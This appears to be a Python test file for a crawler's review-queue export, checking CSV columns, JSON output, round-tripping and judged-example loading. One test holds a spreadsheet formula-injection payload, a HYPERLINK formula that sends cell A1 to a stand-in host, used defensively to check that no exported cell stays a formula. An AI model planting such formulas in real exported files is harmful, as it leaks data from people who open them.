"""The review queue as a table: whole, safe in a spreadsheet, and read back as it was written."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bench.tagging.stories import gold_stories
from crawler.reviewing.queue_file import COLUMNS, as_csv, as_json, examples_as_json_lines
from crawler.reviewing.verdict_file import read_verdicts
from pipelines.store import Doubt, Example
from pipelines.tag.tagger import shipped_reader


def doubt(**changes):
    fields = {
        "url": "https://news.example/1",
        "source": "news",
        "headline": "A plant opens",
        "tag": "local-production",
        "score": 0.48,
        "asserted": False,
        "countries": "IN",
        "quote": "It opens\na plant.",
    }
    return Doubt(**{**fields, **changes})


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_a_row_has_what_she_needs_and_room_for_her_verdict():
    (row,) = rows_of(as_csv([doubt()]))
    assert tuple(row) == COLUMNS
    assert row["quote"] == "It opens a plant."
    assert (row["now"], row["score"]) == ("no", "0.48")
    assert (row["verdict"], row["right_tag"], row["right_countries"]) == ("", "", "")
    assert json.loads(as_json([doubt()]))[0]["score"] == 0.48


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r", " =", "＝", "＠"])
def test_no_cell_is_a_formula(start):
    hostile = f'{start}HYPERLINK("http://x.example/?" & A1)'
    (row,) = rows_of(as_csv([doubt(headline=hostile, quote=hostile, source=hostile, url=hostile)]))
    assert not [cell for cell in row.values() if cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＠"))]


@given(headline=st.text(st.characters(blacklist_categories=["Cs"]), max_size=40), quote=st.text(max_size=40))
def test_whatever_a_publisher_writes_the_table_keeps_its_rows_and_columns(headline, quote):
    quote = quote.encode("utf-8", "replace").decode()
    text = as_csv([doubt(headline=headline, quote=quote), doubt()])
    assert [len(row) for row in csv.reader(io.StringIO(text, newline=""))] == [len(COLUMNS)] * 3
    assert read_verdicts(text.encode("utf-8-sig"), "doubts.csv") == []


def test_judged_stories_are_lines_that_the_weights_are_learned_from(tmp_path):
    example = Example(
        url="https://news.example/1",
        site="news",
        language="en",
        headline="Acme opens a new factory in India",
        text="It makes phones.",
        facets=("local-production",),
        decided=("local-production",),
    )
    path = tmp_path / "judged.jsonl"
    path.write_text(examples_as_json_lines([example, example]), "utf-8")
    stories = gold_stories(path, shipped_reader())
    assert [(story.site, story.facets) for story in stories] == [("news", frozenset({"local-production"}))] * 2
    assert "local-production" in stories[0].amounts
